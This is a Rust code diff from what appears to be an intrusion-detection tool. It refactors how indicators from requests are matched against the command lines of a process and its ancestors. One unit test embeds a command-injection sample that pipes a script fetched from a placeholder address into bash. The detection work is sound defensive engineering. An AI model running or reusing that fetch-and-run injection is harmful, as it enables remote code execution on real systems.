@@ -12,10 +12,14 @@ use crate::incident::Echo;
 use crate::metadata;
 use crate::request::Indicator;
 
-use super::sought::{Form, Sought, address_key, address_of, host_form, host_key, host_of, path_key, word_key, words};
+use super::sought::{
+    Form, Sought, address_key, address_of, host_form, host_key, host_of, lowered, path_key, word_key, words,
+};
 
 /// Most words of one finding's command lines that are compared; a command line is bounded at 4 KiB, its lineage at 16 nodes.
 const WORDS_MAX: usize = 1024;
+/// Processes of a lineage whose command lines are read.
+const LINES_MAX: usize = 8;
 /// Shortest URL that is looked for inside longer words.
 const URL_WITHIN_WORD: usize = 10;
 /// Ends of one word that are keyed as paths: no path that is looked for lies deeper.
@@ -34,48 +38,115 @@ pub(super) struct Surface {
     hosts: BTreeMap<String, String>,
     /// The command lines, each with the number of words before it: for the sentence.
     lines: Vec<(usize, String)>,
-    /// Keys of everything above, sorted: what is not among them need not be compared.
+}
+
+/// The command lines of a process and its ancestors up to the service, which is what a request can have brought about: the
+/// service's own was there before.
+fn command_lines(place: &Placement) -> impl Iterator<Item = &str> {
+    let service = place.service.as_ref().map(|service| service.process);
+    let nodes = place.lineage.iter().take_while(move |node| Some(node.process) != service).take(LINES_MAX);
+    let mut ends = false;
+    nodes.map(|node| &*node.command_line).take_while(move |line| {
+        // Ancestors of a process without a known service reach up to init: only what has its parent's company is new.
+        let goes_on = !ends;
+        ends |= service.is_none() && has_words(line);
+        goes_on
+    })
+}
+
+fn has_words(command_line: &str) -> bool {
+    words(command_line).next().is_some()
+}
+
+/// What a part of a word names beside itself.
+enum Named<'w> {
+    Address(IpAddr),
+    Host(&'w str),
+}
+
+/// Addresses and host names within a word, which is lower case.
+fn named(word: &str) -> impl Iterator<Item = Named<'_>> {
+    // Either has a dot or a colon in it; most words have none.
+    let may = |part: &&str| part.bytes().any(|byte| matches!(byte, b'.' | b':'));
+    word.split(['/', '@', '?', '#', '='])
+        .filter(may)
+        .filter_map(|part| address_of(part).map(Named::Address).or_else(|| host_of(part).map(Named::Host)))
+}
+
+/// Keys of everything that a request could name and find on the surface of a finding, sorted: what is not among them need not be
+/// compared. Worked out for each finding, so without a copy of anything.
+#[derive(Default)]
+pub(super) struct Keys {
     keys: Vec<u64>,
+    words: usize,
+}
+
+impl Keys {
+    /// Of what was done at `place`.
+    pub(super) fn of(place: &Placement) -> Self {
+        let mut keys = Self::default();
+        for line in command_lines(place) {
+            keys.read(line);
+        }
+        keys
+    }
+
+    fn read(&mut self, command_line: &str) {
+        let line = lowered(command_line);
+        for word in words(&line).take(WORDS_MAX - self.words) {
+            self.words += 1;
+            for named in named(word) {
+                match named {
+                    Named::Address(address) => self.keys.push(address_key(address)),
+                    Named::Host(host) => self.host(host),
+                }
+            }
+            self.word(word);
+        }
+    }
+
+    fn word(&mut self, word: &str) {
+        self.keys.push(word_key(word));
+        let ends = word.match_indices('/').filter_map(|(slash, _)| word.get(slash..));
+        self.keys.extend(ends.take(PATHS_MAX).map(path_key));
+    }
+
+    fn host(&mut self, host: &str) {
+        let ends = host.match_indices('.').filter_map(|(dot, _)| host.get(dot + 1..));
+        self.keys.extend(ends.chain([host]).map(host_key));
+    }
+
+    /// Adds those of what a metadata finding reached.
+    pub(super) fn with_finding(mut self, finding: &HostFinding) -> Box<[u64]> {
+        if let HostFinding::Metadata { endpoint, role, .. } = finding {
+            self.keys.push(address_key(metadata::canonical(endpoint.ip())));
+            role.iter().for_each(|role| self.word(&lowered(role)));
+        }
+        self.sorted()
+    }
+
+    /// Adds those of a peer and the names it was reached by.
+    pub(super) fn with_peer<'n>(mut self, peer: SocketAddr, names: impl Iterator<Item = &'n str>) -> Box<[u64]> {
+        self.keys.push(address_key(metadata::canonical(peer.ip())));
+        names.for_each(|name| self.host(&host_form(name)));
+        self.sorted()
+    }
+
+    fn sorted(mut self) -> Box<[u64]> {
+        self.keys.sort_unstable();
+        self.keys.dedup();
+        self.keys.into_boxed_slice()
+    }
 }
 
 impl Surface {
-    /// Of a process and its ancestors up to the service, which is what a request can have brought about: the service's own
-    /// command line was there before.
+    /// Of what was done at `place`.
     pub(super) fn of(place: &Placement) -> Self {
         let mut surface = Self::default();
-        let service = place.service.as_ref().map(|service| service.process);
-        for node in place.lineage.iter().take_while(|node| Some(node.process) != service).take(8) {
-            // Ancestors of a process without a known service reach up to init: only what has its parent's company is new.
-            if service.is_none() && !surface.words.is_empty() {
-                break;
-            }
-            surface.read(&node.command_line);
+        for line in command_lines(place) {
+            surface.read(line);
         }
-        surface.keyed()
-    }
-
-    /// With its keys, once all is in.
-    fn keyed(mut self) -> Self {
-        let mut keys: Vec<u64> = self.addresses.keys().map(|address| address_key(*address)).collect();
-        for host in self.hosts.keys() {
-            let ends = host.match_indices('.').filter_map(|(dot, _)| host.get(dot + 1..));
-            keys.extend(ends.chain([host.as_str()]).map(host_key));
-        }
-        for word in &self.words {
-            keys.push(word_key(word));
-            keys.extend(
-                word.match_indices('/').filter_map(|(slash, _)| word.get(slash..)).take(PATHS_MAX).map(path_key),
-            );
-        }
-        keys.sort_unstable();
-        keys.dedup();
-        self.keys = keys;
-        self
-    }
-
-    /// Everything that a request could name and find here.
-    pub(super) fn keys(&self) -> &[u64] {
-        &self.keys
+        surface
     }
 
     /// Adds what a metadata finding reached.
@@ -84,7 +155,7 @@ impl Surface {
             self.addresses.insert(metadata::canonical(endpoint.ip()), format!("the endpoint {endpoint}"));
             self.words.extend(role.iter().map(|role| role.to_lowercase()));
         }
-        self.keyed()
+        self
     }
 
     /// Adds a peer and the names it was reached by.
@@ -93,30 +164,30 @@ impl Surface {
         for name in names {
             self.hosts.insert(host_form(name), format!("the name {name}"));
         }
-        self.keyed()
+        self
     }
 
     fn read(&mut self, command_line: &str) {
         self.lines.push((self.words.len(), command_line.to_owned()));
-        for word in words(command_line) {
-            if self.words.len() == WORDS_MAX {
-                return;
-            }
-            for part in word.split(['/', '@', '?', '#', '=']) {
-                if let Some(address) = address_of(part) {
-                    self.addresses.entry(address).or_insert_with(|| command_line.to_owned());
-                } else if let Some(host) = host_of(part) {
-                    self.hosts.entry(host).or_insert_with(|| command_line.to_owned());
+        let line = lowered(command_line);
+        for word in words(&line).take(WORDS_MAX - self.words.len()) {
+            for named in named(word) {
+                match named {
+                    Named::Address(address) => {
+                        self.addresses.entry(address).or_insert_with(|| command_line.to_owned());
+                    }
+                    Named::Host(host) => {
+                        self.hosts.entry(host.to_owned()).or_insert_with(|| command_line.to_owned());
+                    }
                 }
             }
-            self.words.push(word);
+            self.words.push(word.to_owned());
         }
     }
 
     /// What of `sought` reappears here, in the same order.
-    pub(super) fn echoes(&self, sought: &[Sought]) -> Vec<Echo> {
-        let may = |sought: &&Sought| sought.key.is_none_or(|key| self.keys.binary_search(&key).is_ok());
-        sought.iter().filter(may).filter_map(|sought| self.echo(sought)).collect()
+    pub(super) fn echoes<'s>(&self, sought: impl Iterator<Item = &'s Sought>) -> Vec<Echo> {
+        sought.filter_map(|sought| self.echo(sought)).collect()
     }
 
     fn echo(&self, sought: &Sought) -> Option<Echo> {
@@ -181,14 +252,13 @@ mod tests {
     fn surface(command_line: &str) -> Surface {
         let mut surface = Surface::default();
         surface.read(command_line);
-        surface.keyed()
+        surface
     }
 
     #[test]
     fn the_process_that_holds_it_is_the_one_that_is_named() {
         let mut surface = surface("bash");
         surface.read("sh -c ping 127.0.0.1;curl http://203.0.113.7/x|bash");
-        let surface = surface.keyed();
         let check = |indicator: Indicator| {
             let echo = surface.echo(&Sought::of(&indicator)).expect("an echo");
             assert!(echo.seen_in.starts_with("sh -c"), "{indicator:?}: {}", echo.seen_in);
@@ -202,7 +272,13 @@ mod tests {
     #[test]
     fn what_reappears_is_found_and_weighed() {
         let check = |indicator: Indicator, command_line: &str, expected: Option<bool>| {
-            let echoes = surface(command_line).echoes(&[Sought::of(&indicator)]);
+            let echoes = {
+                let sought = Sought::of(&indicator);
+                let mut keys = Keys::default();
+                keys.read(command_line);
+                let may = sought.key.is_none_or(|key| keys.sorted().binary_search(&key).is_ok());
+                if may { surface(command_line).echoes([&sought].into_iter()) } else { Vec::new() }
+            };
             let echo = echoes.first().map(|echo| echo.distinctive);
             assert_eq!(echo, expected, "{indicator:?} in {command_line}");
         };
